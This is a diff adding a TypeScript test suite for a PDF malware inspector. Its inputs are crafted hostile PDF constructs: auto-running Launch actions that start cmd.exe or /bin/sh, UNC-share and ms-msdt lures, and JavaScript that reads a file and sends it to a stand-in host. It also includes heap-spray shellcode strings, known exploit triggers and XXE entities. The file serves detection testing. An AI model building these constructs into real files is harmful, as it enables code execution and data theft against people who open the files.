@@ -1,0 +1,502 @@
+/** What a PDF does is found and judged, in whatever way it is written, and ordinary documents are left alone. */
+
+import assert from 'node:assert/strict'
+import { createHash } from 'node:crypto'
+import { suite, test } from 'node:test'
+import { deflateSync } from 'node:zlib'
+import { rc4 } from '#inspect/core/rc4.ts'
+import { useInspector } from '#inspect/testing/inspector.ts'
+import { docx, pdf, program } from '#inspect/testing/samples.ts'
+import { ACTIONS_MAX } from './actions.ts'
+import { REFERENCES_MAX } from './document.ts'
+import { ELEMENTS_MAX, FORM_MAX } from './forms.ts'
+import { SCRIPTS_MAX } from './scripts.ts'
+
+const inspector = useInspector()
+
+/** The findings without the family, suspicious and worse first; then the notices in parentheses. */
+function found(bytes: Uint8Array): string[] {
+  const { findings, obstacle } = inspector.inspect(bytes)
+  const shown = findings.map(({ id, severity }) => {
+    const name = id.replace('Docvet.', '').replace('Pdf.', '')
+    return severity === 'notice' ? `(${name})` : `${name}${severity === 'malicious' ? '!' : ''}`
+  })
+  return obstacle === null ? shown : [...shown, obstacle.reason]
+}
+
+const threats = (bytes: Uint8Array): string[] => found(bytes).filter((name) => !name.startsWith('('))
+
+const catalog = (entries: string): string => `<< /Type /Catalog /Pages 9 0 R ${entries} >>`
+const open = (action: string, ...others: string[]): Buffer => pdf([catalog(`/OpenAction ${action}`), ...others])
+const click = (action: string, ...others: string[]): Buffer =>
+  pdf([catalog(''), `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`, ...others])
+const literal = (text: string): string => `(${text.replaceAll(/[\\()]/g, '\\$&')})`
+const js = (source: string): string => `<< /S /JavaScript /JS ${literal(source)} >>`
+const script = (source: string): Buffer => open(js(source))
+function stream(dictionary: string, data: string | Uint8Array): string {
+  const text = Buffer.from(data as Uint8Array).toString('latin1')
+  return `<< ${dictionary} /Length ${text.length} >>\nstream\n${text}\nendstream`
+}
+
+suite('an action', () => {
+  const cases: [string, Uint8Array, string[]][] = [
+    ['opens a web page after a click', click('<< /S /URI /URI (https://a.example/) >>'), ['(Link)']],
+    ['opens a web page by itself', open('<< /S /URI /URI (https://a.example/) >>'), ['RemoteAction']],
+    ['goes to a page', open('[9 0 R /Fit]'), []],
+    ['opens another document after a click', click('<< /S /GoToR /F (a.pdf) >>'), []],
+    ['opens a share after a click', click('<< /S /GoToR /F (\\\\\\\\a.example\\\\b) >>'), ['Link.FileServer']],
+    ['opens a share by itself', open('<< /S /GoToE /F (\\\\\\\\a.example\\\\b) /D [0 /Fit] >>'), ['AutomaticShare!']],
+    ['opens a share without escapes', open('<< /S /GoToE /F (\\\\a.example\\b) >>'), ['AutomaticShare!']],
+    [
+      'opens a share by a file specification',
+      open('<< /S /Thread /F << /FS /URL /UF <FEFF005C005C0061002E0062005C0063> >> >>'),
+      ['AutomaticShare!'],
+    ],
+    [
+      'opens a risky handler by itself',
+      open('<< /S /URI /URI (search-ms:query=a&crumb=location:\\\\\\\\a.b\\\\c) >>'),
+      ['Link.HandlerAutomatic!'],
+    ],
+    ['opens the troubleshooter', click('<< /S /URI /URI (ms-msdt:/id a) >>'), ['Link.Troubleshooter!']],
+    ['runs a script in an address by itself', open('<< /S /GoToE /F (javascript:a\\(\\)) >>'), ['RemoteAction']],
+    [
+      'sends a form after a click',
+      click('<< /S /SubmitForm /F << /FS /URL /F (https://a.example/) >> >>'),
+      ['(SubmitForm)', '(Link)'],
+    ],
+    [
+      'sends a form by itself',
+      open('<< /S /SubmitForm /F << /FS /URL /F (https://a.example/) >> >>'),
+      ['RemoteAction', '(SubmitForm)'],
+    ],
+    ['imports data by itself', open('<< /S /ImportData /F (https://a.example/a.fdf) >>'), ['RemoteAction']],
+    ['starts a program', click('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), ['LaunchCommand!']],
+    ['starts a program by its file', click('<< /S /Launch /F (tools/setup.exe) >>'), ['LaunchCommand!']],
+    [
+      'starts a program without an extension',
+      click('<< /S /Launch /F << /Type /Filespec /Unix (/bin/sh) >> >>'),
+      ['LaunchCommand!'],
+    ],
+    [
+      'starts a file of a server by itself',
+      open('<< /S /Launch /F (https://a.example/a.pdf) >>'),
+      ['LaunchCommand!', 'RemoteAction'],
+    ],
+    ['starts a document', click('<< /S /Launch /F (chapter2.pdf) >>'), ['LaunchFile']],
+    ['has a duplicate key', click('<< /S /URI /URI (a) /S /Launch >>'), ['LaunchFile', 'AmbiguousAction']],
+    ['is repeated', click('<< /S /URI /URI (a) /S /URI >>'), []],
+    ['plays a sound', click('<< /S /Sound /Sound 9 0 R >>'), ['(RichMedia)']],
+  ]
+  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(found(bytes), expected))
+
+  const events: [string, string, string[]][] = [
+    ['a page that opens', '<< /Type /Page /AA << /O % >> >>', ['RemoteAction']],
+    ['a page that closes', '<< /Type /Page /AA << /C % >> >>', ['RemoteAction']],
+    ['a field that is calculated', '<< /FT /Tx /T (a) /AA << /C % >> >>', ['(Link)']],
+    ['a field that loses the focus', '<< /FT /Tx /T (a) /AA << /Bl % >> >>', ['(Link)']],
+    ['the pointer above an annotation', '<< /Subtype /Link /AA << /E % >> >>', ['RemoteAction']],
+    ['an annotation that becomes visible', '<< /Subtype /Screen /AA << /PV % >> >>', ['RemoteAction']],
+    ['a document that is printed', '<< /Type /Catalog /AA << /WP % >> >>', ['RemoteAction']],
+    ['another action', '<< /OpenAction << /S /GoTo /Next << /S /GoTo /Next [ % ] >> >> >>', ['RemoteAction']],
+  ]
+  for (const [name, object, expected] of events)
+    test(`of ${name}`, () => {
+      const action = '<< /S /URI /URI (https://a.example/) >>'
+      assert.deepEqual(found(pdf([catalog(''), object.replace('%', action)])), expected)
+      assert.deepEqual(found(pdf([catalog(''), object.replace('%', '3 0 R'), action])), expected, 'by reference')
+    })
+})
+
+suite('a script', () => {
+  const cases: [string, Uint8Array, string[]][] = [
+    ['shows a message', script('app.alert("Hello")'), []],
+    ['prints', script('this.print({bUI: true})'), []],
+    [
+      'formats a field',
+      pdf([catalog(''), `<< /FT /Tx /T (a) /AA << /F ${js('AFNumber_Format(2, 0, 0, 0, "", true)')} >> >>`]),
+      [],
+    ],
+    ['opens an address by itself', script('app.launchURL("https://a.example/")'), ['ScriptNetwork']],
+    ['opens an address after a click', click(js('app.launchURL("https://a.example/")')), []],
+    ['sends a form after a click', click(js('this.submitForm({cURL: "https://a.example/"})')), []],
+    ['opens a local document', script('app.openDoc("/c/a.pdf")'), []],
+    ['opens an address that it only knows when it runs', script('this.getURL(address)'), []],
+    [
+      'opens a remote document after a click',
+      click(js('app.openDoc({cPath: encodeURI("https://a.example/"), cFS: "CHTTP"})')),
+      ['ScriptNetwork'],
+    ],
+    ['asks a server', script('SOAP.request({cURL: "https://a.example/", oRequest: {}})'), ['ScriptNetwork']],
+    ['loads a picture', script('var i = new Image(); i.src = "https://a.example/"'), ['ScriptNetwork']],
+    ['reaches a share', script('SOAP.connect("\\\\\\\\a.example\\\\b")'), ['AutomaticShare!']],
+    ['starts an attachment', script('this.exportDataObject({cName: "a", nLaunch: 2})'), ['ScriptExport!']],
+    [
+      'starts an attachment by a built name',
+      script('this["export" + "DataObject"]({cName: "a", nLaunch: 1 + 1})'),
+      ['ScriptExport!'],
+    ],
+    ['opens its own attachment after a click', click(js('this.exportDataObject({cName: "a.pdf", nLaunch: 2})')), []],
+    [
+      'has machine code',
+      script('var s = unescape("%u9090%u9090%u6afc%u4deb"); eval(s)'),
+      ['ScriptExploit!', 'ScriptHidden!'],
+    ],
+    ['has machine code as escapes', script(`var s = "${'\\u9090'.repeat(4)}"`), ['ScriptExploit!']],
+    [
+      'has Chinese text as codes',
+      script('app.alert(unescape("%u4f60%u597d%u4e16%u754c%u4f60%u597d%u4e16%u754c"))'),
+      [],
+    ],
+    [
+      'has Russian text as escapes',
+      script(String.raw`app.alert("\u0437\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435")`),
+      [],
+    ],
+    ['calls an exploit', script('Collab.getIcon("a".repeat(9))'), ['ScriptExploit!']],
+    ['formats a number', script('util.printf("%.2f", 1)'), []],
+    ['formats a number beyond measure', script('util.printf("%45000f", 1)'), ['ScriptExploit!']],
+    ['runs built text', script('eval("app.al" + "ert(1)")'), ['ScriptHidden!']],
+    [
+      'runs text that hides an address',
+      script('eval(\'app.launchURL("https://a.example/")\')'),
+      ['ScriptHidden!', 'ScriptNetwork'],
+    ],
+    ['runs text from a field', script('eval(this.getField("a").value)'), ['ScriptHidden!']],
+    ['runs text by itself', script('eval("app.alert(1)")'), ['ScriptObfuscated']],
+    ['calculates after a click', click(js('event.value = eval(this.getField("a").value)')), []],
+    ['sets a timer', script('app.setTimeOut("show(" + 1 + ")", 100)'), []],
+    [
+      'reads and sends a file',
+      script('var s = util.readFileIntoStream("/a"); SOAP.request({cURL: "https://a.example/", oRequest: {s: s}})'),
+      ['ScriptFileTheft!', 'ScriptNetwork'],
+    ],
+    [
+      'declares an entity',
+      script('XMLData.parse("<!DOCTYPE a [<!ENTITY b SYSTEM \'https://a.example/\'>]><a/>")'),
+      ['XfaExternal'],
+    ],
+    [
+      'in a name tree',
+      pdf([catalog('/Names << /JavaScript << /Names [(a) 2 0 R] >> >>'), js('app.launchURL("https://a.example/")')]),
+      ['ScriptNetwork'],
+    ],
+    [
+      'in a deep name tree',
+      pdf([
+        catalog('/Names 2 0 R'),
+        '<< /JavaScript 3 0 R >>',
+        '<< /Kids [4 0 R] >>',
+        '<< /Names [(a) 5 0 R] >>',
+        js('app.launchURL("https://a.example/")'),
+      ]),
+      ['ScriptNetwork'],
+    ],
+    [
+      'in a stream',
+      open(
+        '<< /S /JavaScript /JS 2 0 R >>',
+        stream('/Filter /FlateDecode', deflateSync('app.launchURL("https://a.example/")')),
+      ),
+      ['ScriptNetwork'],
+    ],
+    [
+      'under three encodings',
+      open(
+        '<< /S /JavaScript /JS 2 0 R >>',
+        stream(
+          '/Filter [/AHx /AHx /AHx]',
+          `${Buffer.from(`${Buffer.from(`${Buffer.from('app.alert(1)').toString('hex')}>`).toString('hex')}>`).toString('hex')}>`,
+        ),
+      ),
+      ['FilterChain'],
+    ],
+    [
+      'calls a function of another script',
+      pdf([
+        catalog(
+          `/OpenAction ${js('go("https://a.example/")')} /Names << /JavaScript << /Names [(a) ${js('function go(u) { app.launchURL(u) }')}] >> >>`,
+        ),
+      ]),
+      ['ScriptNetwork'],
+    ],
+    [
+      'takes its code from a field',
+      pdf([
+        catalog(
+          `/OpenAction ${js('eval(util.stringFromStream(util.streamFromString(getField("b").value), "base64"))')} /AcroForm << /Fields [<< /T (b) /V (${Buffer.from('app.launchURL("https://a.example/")').toString('base64')}) >>] >>`,
+        ),
+      ]),
+      ['ScriptHidden!', 'ScriptNetwork'],
+    ],
+    [
+      'of a 3D model',
+      pdf([catalog(''), '<< /Type /3D /OnInstantiate 3 0 R >>', stream('', 'fetch("https://a.example/")')]),
+      ['ScriptNetwork'],
+    ],
+  ]
+  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))
+})
+
+suite('an action is found', () => {
+  const target = 'app.launchURL("https://a.example/")'
+  const packed = (objects: string, header = '5 0 6 0 '): string =>
+    stream(`/Type /ObjStm /N 2 /First ${header.length} /Filter /FlateDecode`, deflateSync(`${header}${objects}`))
+  const cases: [string, Uint8Array][] = [
+    ['with a text in hexadecimal', open(`<< /S /JavaScript /JS <${Buffer.from(target).toString('hex')}> >>`)],
+    [
+      'with a text in octal',
+      open(`<< /S /JavaScript /JS (${[...target].map((char) => `\\${char.charCodeAt(0).toString(8)}`).join('')}) >>`),
+    ],
+    [
+      'with a text in UTF-16',
+      open(`<< /S /JavaScript /JS <feff${Buffer.from(target, 'utf16le').swap16().toString('hex')}> >>`),
+    ],
+    ['with a text in an object of its own', open('<< /S /JavaScript /JS 2 0 R >>', literal(target))],
+    ['with its type in an object of its own', open('<< /S 2 0 R /JS 3 0 R >>', '/JavaScript', literal(target))],
+    ['in an object', open('2 0 R', js(target))],
+    ['in an object of an object', open('2 0 R', '3 0 R', js(target))],
+    ['in an object stream', open('5 0 R', packed(js(target), '5 0 6 1 '))],
+    ['in the trailer', pdf([], `/Root << /Pages << >> /OpenAction ${js(target)} >>`)],
+    [
+      'after the header',
+      Buffer.from(`%PDF-xref 0 0 trailer<</Root<</Pages<<>>/OpenAction${js(target)}>>>> startxref 5%%EOF`),
+    ],
+    ['in a dictionary without an end', pdf([`<< /Type /Catalog /OpenAction << /S /JavaScript /JS ${literal(target)}`])],
+    ['behind a header in a string', pdf([`<< /Type /Catalog /A (2 0 obj) /OpenAction ${js(target)} >>`])],
+    ['in an earlier revision', Buffer.concat([script(target), pdf([catalog('')])])],
+    ['in a list', open(`[${js(target)}]`)],
+    ['after another action', open(`<< /S /GoTo /D [0 /Fit] /Next 2 0 R >>`, js(target))],
+    ['behind a comment', open(`<< /S %a\n/JavaScript /JS %b (\n${literal(target)} >>`)],
+    ['in a decrypted file', encrypted(target)],
+  ]
+  for (const [name, bytes] of cases) test(name, () => assert.deepEqual(threats(bytes), ['ScriptNetwork']))
+  test('if its type is an object that others share', () => {
+    const bytes = pdf([catalog(''), '<< /Subtype /Link /A 3 0 R >>', '<< /S 4 0 R /F (cmd.exe) >>', '/Launch'])
+    assert.deepEqual(threats(bytes), ['LaunchCommand!'])
+  })
+})
+
+/** 40-bit RC4 with an empty password. */
+function encrypted(source: string): Buffer {
+  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex')
+  const md5 = (...parts: Uint8Array[]): Buffer => createHash('md5').update(Buffer.concat(parts)).digest()
+  const owner = Buffer.alloc(32, 7)
+  const key = md5(padding, owner, Buffer.from([0xfc, 0xff, 0xff, 0xff]), Buffer.from('01020304', 'hex')).subarray(0, 5)
+  const objectKey = md5(key, Buffer.from([1, 0, 0, 0, 0])).subarray(0, 10)
+  const sealed = rc4(objectKey, Buffer.from(source)).toString('hex')
+  const dictionary = `/Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${rc4(key, padding).toString('hex')}> /P -4`
+  return pdf(
+    [catalog(`/OpenAction << /S /JavaScript /JS <${sealed}> >>`), `<< ${dictionary} >>`],
+    '/Encrypt 2 0 R /ID [<01020304> <01020304>]',
+  )
+}
+
+suite('a name with codes', () => {
+  const cases: [string, Uint8Array, string[]][] = [
+    [
+      'that needs none, of an action',
+      pdf([catalog(`/Open#41ction << /S /Java#53cript /#4a#53 (app.alert\\(1\\)) >>`)]),
+      ['HiddenAction!'],
+    ],
+    [
+      'in an object stream',
+      pdf([
+        stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync('5 0 << /S /L#61unch /F (a.pdf) >>')),
+      ]),
+      ['HiddenAction!', 'LaunchFile'],
+    ],
+    ['of a filter', pdf([catalog(''), stream('/Filter /#46lateDecode', deflateSync('BT ET'))]), ['HiddenName']],
+    ['that needs them', pdf([catalog(''), '<< /Subtype /text#2Fplain /Font << /A#20B 9 0 R /#e4 9 0 R >> >>']), []],
+    ['that does not matter', pdf([catalog(''), '<< /BaseFont /Ari#61l >>']), []],
+  ]
+  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))
+})
+
+suite('a form in XML', () => {
+  const form = (xml: string): Buffer => pdf([catalog('/AcroForm << /XFA 2 0 R >>'), stream('', xml)])
+  const event = (activity: string, inner: string): string =>
+    `<template><field><event activity="${activity}">${inner}</event></field></template>`
+  const post = '<script contentType="application/x-formcalc">Post("https://a.example/", "a")</script>'
+  const cases: [string, Uint8Array, string[]][] = [
+    ['with a calculation', form(event('calculate', '<script>this.rawValue = 1 + 2</script>')), []],
+    ['that sends by itself', form(event('initialize', post)), ['ScriptNetwork']],
+    ['that sends after a click', form(event('click', post)), []],
+    [
+      'with escaped characters',
+      form(event('initialize', '<script>app.launchURL(&quot;https://&#x61;.example/&quot;)</script>')),
+      ['ScriptNetwork'],
+    ],
+    [
+      'in parts',
+      pdf([
+        catalog('/AcroForm << /XFA [(a) 2 0 R (b) 3 0 R] >>'),
+        stream('', '<template><event activity="initialize"><scr'),
+        stream('', `ipt>app.launchURL("https://a.example/")</script></event></template>`),
+      ]),
+      ['ScriptNetwork'],
+    ],
+    [
+      'that submits by itself',
+      form(event('initialize', '<submit target="https://a.example/"/>')),
+      ['XfaExternal', 'RemoteAction'],
+    ],
+    ['that submits after a click', form(event('click', '<submit target="https://a.example/"/>')), []],
+    ['with an entity', form('<!DOCTYPE a [<!ENTITY b SYSTEM "https://a.example/">]><xdp>&b;</xdp>'), ['XfaExternal']],
+    [
+      'with a style sheet of a share',
+      form('<?xml-stylesheet href="\\\\a.example\\b.xsl" type="text/xsl"?><xdp/>'),
+      ['AutomaticShare!', 'XfaExternal'],
+    ],
+    ['with a namespace', form('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><config/></xdp:xdp>'), []],
+  ]
+  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))
+})
+
+suite('a stream', () => {
+  const metadata = (xml: string): Buffer =>
+    pdf([catalog('/Metadata 2 0 R'), stream('/Type /Metadata /Subtype /XML', xml)])
+  const font = (matrix: string): Buffer =>
+    pdf([catalog(''), `<< /Type /Font /Subtype /Type1 /FontMatrix ${matrix} >>`, '(a)'])
+  const file = (name: string, data: string | Uint8Array): Buffer =>
+    pdf([catalog(''), `<< /Type /Filespec /F (${name}) /EF << /F 3 0 R >> >>`, stream('/Type /EmbeddedFile', data)])
+  const cases: [string, Uint8Array, string[]][] = [
+    ['with metadata', metadata('<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>'), []],
+    [
+      'with metadata that declares an entity',
+      metadata('<!DOCTYPE a [<!ENTITY b SYSTEM "https://a.example/">]><a>&b;</a>'),
+      ['XfaExternal'],
+    ],
+    ['in a file of a share', pdf([catalog(''), stream('/F (\\\\\\\\a.example\\\\b.jpg)', '')]), ['AutomaticShare!']],
+    [
+      'in a file of a server',
+      pdf([catalog(''), stream('/F << /FS /URL /F (https://a.example/b) >>', '')]),
+      ['RemoteAction'],
+    ],
+    [
+      'with a calculation',
+      pdf([catalog(''), stream('/FunctionType 4 /Domain [0 1]', '{ dup 2 mul exch sub % a (b)\n }')]),
+      [],
+    ],
+    [
+      'with another function',
+      pdf([catalog(''), stream('/FunctionType 4 /Domain [0 1]', '{ fetch("https://a.example/") }')]),
+      ['FunctionCode'],
+    ],
+    ['with an ordinary font', font('[0.001 0 0 0.001 0 0]'), []],
+    ['with code in a font', font('[1 2 3 4 5 (0\\); alert\\(1\\))]'), ['FontCode!']],
+    ['with code in a font by reference', font('[1 2 3 4 5 3 0 R]'), ['FontCode!']],
+    [
+      'with code in a font program',
+      pdf([catalog(''), stream('/Length1 99', '%!PS-AdobeFont\n/FontMatrix [1 2 3 4 5 (a)] readonly def')]),
+      ['FontCode!'],
+    ],
+    ['with a text file', file('a.txt', 'Hello'), []],
+    ['with a program', file('a.txt', program()), ['Embedded.Executable!', 'EmbeddedProgram!']],
+    ['with a script by its name', file('a.vbs', 'MsgBox 1'), ['EmbeddedProgram!']],
+    ['with a document', file('a.docx', docx()), []],
+    ['with a film', file('a.swf', 'FWS'), []],
+  ]
+  for (const [name, bytes, expected] of cases)
+    test(name, () =>
+      assert.deepEqual(
+        threats(bytes)
+          .filter((each) => each !== 'too_complex')
+          .sort(),
+        [...expected].sort(),
+      ),
+    )
+  test('with a document with macros', () => {
+    assert.ok(threats(file('a.docm', docx())).includes('EmbeddedMacros'))
+    assert.ok(threats(file('a.doc', docx({ 'word/vbaProject.bin': 'a' }))).includes('EmbeddedMacros'))
+  })
+  test('with an impossible number of colours', () => {
+    const of = (colors: number) =>
+      threats(
+        pdf([
+          catalog(''),
+          stream(`/Filter /FlateDecode /DecodeParms << /Colors ${colors} /Predictor 2 >>`, deflateSync('a')),
+        ]),
+      )
+    assert.ok(of(16_777_217).includes('OddColors'))
+    assert.ok(!of(16_777_216).includes('OddColors'))
+  })
+  test('with a picture in JBIG2', () => {
+    assert.deepEqual(
+      found(pdf([catalog(''), stream('/Subtype /Image /Width 1 /Height 1 /Filter /JBIG2Decode', 'a')])),
+      ['(Jbig2)'],
+    )
+  })
+})
+
+suite('besides objects', () => {
+  const plain = pdf([catalog('')])
+  const cases: [string, Uint8Array, string[]][] = [
+    ['a byte order mark', Buffer.concat([Buffer.from('\ufeff'), plain]), []],
+    ['data before', Buffer.concat([Buffer.alloc(300, 'data '), plain]), ['(DataBefore)']],
+    ['some data after', Buffer.concat([plain, Buffer.alloc(499, 'a')]), []],
+    ['more data after', Buffer.concat([plain, Buffer.alloc(500, 'a')]), ['(DataAfter)']],
+    ['a page', Buffer.concat([plain, Buffer.from('<html><p>Hello</p></html>')]), ['SecondDocument']],
+    [
+      'a page with a script',
+      Buffer.concat([Buffer.from('<html><script>a()</script><!--'), plain]),
+      ['HiddenDocument!', '(DataBefore)', '(Html.Script)'],
+    ],
+    ['a page in an object', pdf([catalog(''), '(<html><script>a()</script>)']), []],
+    ['a page in a stream', pdf([catalog(''), stream('', '<html><script>a()</script>')]), []],
+    ['an annotation with text', pdf([catalog(''), '<< /Type /Annot /Contents (a <b> c) /T (<img>) >>']), []],
+    [
+      'an annotation with code',
+      pdf([catalog(''), '<< /Type /Annot /T (<img src="https://a.example/">) >>']),
+      ['MarkupText'],
+    ],
+    [
+      'an annotation with coded code',
+      pdf([catalog(''), '<< /Type /Annot /T (\\074img src=1 onerror=a\\(\\)>) >>']),
+      ['MarkupText'],
+    ],
+  ]
+  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(found(bytes), expected))
+  test('a web archive', () => {
+    const archive =
+      'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="a"\n\n--a\nContent-Type: text/html\n\n<p>\n--a--\n'
+    assert.deepEqual(threats(Buffer.concat([plain, Buffer.from(archive)])), ['SecondDocument'])
+    const office = archive.replace('<p>', '<link rel=Edit-Time-Data href="editdata.mso">')
+    assert.deepEqual(threats(Buffer.concat([plain, Buffer.from(office)])), ['HiddenDocument!'])
+  })
+})
+
+suite('at the limit and one past it', () => {
+  const isWhole = (bytes: Uint8Array): boolean => inspector.inspect(bytes).obstacle === null
+  test('actions', () => {
+    const of = (count: number) => pdf([catalog(''), `[${'<</URI()>>'.repeat(count)}]`])
+    assert.equal(isWhole(of(ACTIONS_MAX)), true)
+    assert.equal(isWhole(of(ACTIONS_MAX + 1)), false)
+  })
+  test('references', () => {
+    const of = (count: number) =>
+      pdf([
+        catalog(''),
+        `<< /Names [${'2 0 R '.repeat(count)}] /JavaScript << /Names [${'9 0 R '.repeat(count)}] >> >>`,
+      ])
+    assert.equal(isWhole(of(REFERENCES_MAX / 4)), true)
+    assert.equal(isWhole(of(REFERENCES_MAX)), false)
+  })
+  test('scripts', () => {
+    const of = (count: number) =>
+      pdf([catalog(''), `[${Array.from({ length: count }, (_, i) => `<</JS(a${i})>>`).join('')}]`])
+    assert.equal(isWhole(of(SCRIPTS_MAX)), true)
+    assert.equal(isWhole(of(SCRIPTS_MAX + 1)), false)
+  })
+  test('elements and characters of a form', () => {
+    const form = (xml: string) => pdf([catalog('/AcroForm << /XFA 2 0 R >>'), stream('', xml)])
+    assert.equal(isWhole(form('<uri>'.repeat(ELEMENTS_MAX))), true)
+    assert.equal(isWhole(form('<uri>'.repeat(ELEMENTS_MAX + 1))), false)
+    const parts = (length: number) =>
+      pdf([
+        catalog('/AcroForm << /XFA [2 0 R 3 0 R 4 0 R] >>'),
+        ...[FORM_MAX / 2, FORM_MAX / 2, length].map((each) => stream('', ' '.repeat(each))),
+      ])
+    assert.equal(isWhole(parts(0)), true)
+    assert.equal(isWhole(parts(1)), false)
+  })
+})
